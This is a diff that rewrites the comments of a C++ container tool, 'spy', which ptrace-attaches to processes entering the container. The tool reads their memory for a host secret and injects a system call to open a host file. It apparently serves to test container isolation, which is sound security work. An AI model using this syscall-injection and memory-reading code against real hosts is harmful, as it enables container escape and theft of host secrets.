@@ -1,12 +1,12 @@
 // spy: pid 1 of a container that attaches to each process that enters it, as soon as it may.
 //
-// The next process has the next number, or one of those after it where it missed some. Prints a
-// line for each: "PID EXE UID" is what was traced, the program that it ran and who it was then;
-// "PID refused" one that could not be traced as long as it was there.
+// The next process has the next pid, or one of those after it if some were missed. Prints a line
+// for each: "PID EXE UID" is a traced process, the program that it ran and its uid then; "PID
+// refused" is one that could not be traced while it existed.
 //
 // With a host's file and a secret of the host's as arguments a line is "PID EXE UID gains: WHAT;…":
-// what the process has that this one has not, whether its memory could be read and it could be
-// made to call, and what came of that.
+// what the process has that this one does not have, whether its memory could be read and it could
+// be made to call, and the result of that.
 #include <dirent.h>
 #include <elf.h>
 #include <errno.h>
@@ -40,7 +40,7 @@ std::string link_of(const std::string& path) {
   return std::string(target, size < 0 ? 1 : static_cast<size_t>(size));
 }
 
-/// A line of /proc/PID/status without its name; see proc_pid_status(5).
+/// Returns a field of /proc/PID/status; see proc_pid_status(5).
 std::string status_of(pid_t pid, const std::string& name) {
   FILE* file = fopen(path_of(pid, "status").c_str(), "re");
   if (file == nullptr) return "?";
@@ -57,12 +57,12 @@ std::string status_of(pid_t pid, const std::string& name) {
   return value;
 }
 
-/// The real user id.
+/// Returns the real uid.
 long user_of(pid_t pid) { return strtol(status_of(pid, "Uid").c_str(), nullptr, 10); }
 
 struct Loot {
   const char* file;    ///< of the host
-  const char* secret;  ///< that is in the host's memory
+  const char* secret;  ///< in the host's memory
   std::vector<std::string> gains;
 
   void note(const std::string& gain) { gains.push_back(gain); }
@@ -99,8 +99,8 @@ void look_at_places(pid_t pid, Loot& loot) {
   }
 }
 
-/// Beyond its standard streams it may have a socket by which it tells how its execve(2) ends, and
-/// one by which it is answered.
+/// Besides its standard streams the process may have a socket by which it reports how its execve(2)
+/// ends, and one by which it gets answers.
 void look_at_files(pid_t pid, Loot& loot) {
   DIR* files = opendir(path_of(pid, "fd").c_str());
   int sockets = 0;
@@ -135,7 +135,7 @@ void look_at_memory(pid_t pid, Loot& loot) {
   if (read_any) loot.note("read");
 }
 
-/// Lets the process run to the begin or end of its next system call.
+/// Lets the process run to the entry or exit of its next system call.
 bool run_to_call(pid_t pid) {
   int status = 0;
   return ptrace(PTRACE_SYSCALL, pid, nullptr, nullptr) == 0 &&
@@ -161,7 +161,7 @@ bool set_call(pid_t pid, user_regs_struct registers, long number, unsigned long 
   return move_registers(PTRACE_SETREGSET, pid, registers);
 }
 
-/// Has it begin the call anew at whose begin it had these.
+/// Makes the process repeat the call at whose entry it had these registers.
 void call_again(pid_t pid, user_regs_struct registers) {
   registers.rip -= 2;  // of "syscall"
   registers.rax = registers.orig_rax;
@@ -173,7 +173,8 @@ unsigned long stack_of(const user_regs_struct& registers) { return registers.sp;
 
 long result_of(const user_regs_struct& registers) { return static_cast<long>(registers.regs[0]); }
 
-/// The number is read from x8 before the tracer is told; from then on it is a register of its own.
+/// The kernel reads the number from x8 before it notifies the tracer; from then on it is a register
+/// of its own.
 bool set_number(pid_t pid, int number) {
   iovec vector{&number, sizeof number};
   return ptrace(PTRACE_SETREGSET, pid, NT_ARM_SYSTEM_CALL, &vector) == 0;
@@ -187,7 +188,7 @@ bool set_call(pid_t pid, user_regs_struct registers, long number, unsigned long 
          set_number(pid, static_cast<int>(number));
 }
 
-/// Has it begin the call anew at whose begin it had these.
+/// Makes the process repeat the call at whose entry it had these registers.
 void call_again(pid_t pid, user_regs_struct registers) {
   registers.pc -= 4;  // of "svc"
   move_registers(PTRACE_SETREGSET, pid, registers);
@@ -195,7 +196,7 @@ void call_again(pid_t pid, user_regs_struct registers) {
 }
 #endif
 
-/// Has it open the host's file instead of what it was about to call, and call that afterwards.
+/// Makes the process open the host's file in place of its next call, and make that call afterwards.
 void make_it_open(pid_t pid, Loot& loot) {
   user_regs_struct before{};
   if (!run_to_call(pid) || !move_registers(PTRACE_GETREGSET, pid, before)) return;
@@ -239,14 +240,14 @@ void tell_of(pid_t pid, Loot* loot) {
   ptrace(PTRACE_DETACH, pid, nullptr, nullptr);
 }
 
-/// Waits for a process that is newer than `last`; its number.
+/// Waits for a process that is newer than `last`; returns its pid.
 pid_t look_at_next(pid_t last, Loot* loot) {
   constexpr int ahead = 4;
   constexpr int turns = 256;
   pid_t first = last + 1;
   pid_t seen = -1;
   for (int turn = 0;; ++turn) {
-    // Where others had the processor meanwhile, some have come and gone.
+    // Some processes may have come and gone while this one was not running.
     if (turn % turns == 0 && seen < 0) first = std::max(first, newest() + 1);
     for (pid_t pid = first; pid < first + ahead; ++pid) {
       if (ptrace(PTRACE_SEIZE, pid, nullptr, PTRACE_O_TRACESYSGOOD) == 0) {
